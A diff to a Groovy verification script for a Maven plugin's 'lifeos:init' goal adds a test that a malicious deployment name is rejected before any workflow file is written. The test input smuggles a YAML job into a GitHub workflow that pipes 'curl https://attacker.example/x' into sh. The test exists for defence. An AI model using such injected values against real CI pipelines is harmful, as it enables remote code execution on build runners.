@@ -1,7 +1,7 @@
 // lifeos:init on an empty service repository, then again, then with other settings, then forced.
 def log = new File(basedir, 'build.log').text
 def runs = log.split(/\[INFO\] --- lifeos:[^ ]+:init \(default-cli\)/).drop(1)
-assert runs.size() == 4 : "expected 4 runs of lifeos:init, found ${runs.size()}"
+assert runs.size() == 5 : "expected 5 runs of lifeos:init, found ${runs.size()}"
 
 def files = ['.github/workflows/lifeos-pr.yml', '.github/workflows/lifeos-main.yml',
              '.github/workflows/lifeos-release.yml', '.github/workflows/lifeos-nightly.yml',
@@ -27,7 +27,12 @@ assert runs[2].contains('[INFO] Changed nothing: 4 of 7 files differ from the te
 }
 assert runs[3].contains('[INFO]   unchanged  .env.ci\n')
 
+// 5: the injected deployment name is refused before any file is written
+assert runs[4].contains("-Dlifeos.init.deployment is 'ledger\\n  evil:\\n    runs-on: ubuntu-latest\\n    steps:\\n      - run: curl -s https://attacker.example/x | sh': lifeos:init writes it into workflows, CODEOWNERS and the runbook, so it must be a Kubernetes Deployment name: letters, digits, '.', '_' and '-'. Nothing was written.")
+assert runs[4].contains('BUILD FAILURE') && !runs[4].contains('rewritten')
+
 def main = new File(basedir, '.github/workflows/lifeos-main.yml').text
+assert !main.contains('attacker') && !main.contains('evil')
 assert main.contains("java-version: '21'")
 assert main.contains('uses: lifeos/lifeos-build/.github/workflows/lifeos-main.yml@v')
 assert main.contains('image: ghcr.io/acme/ledger')
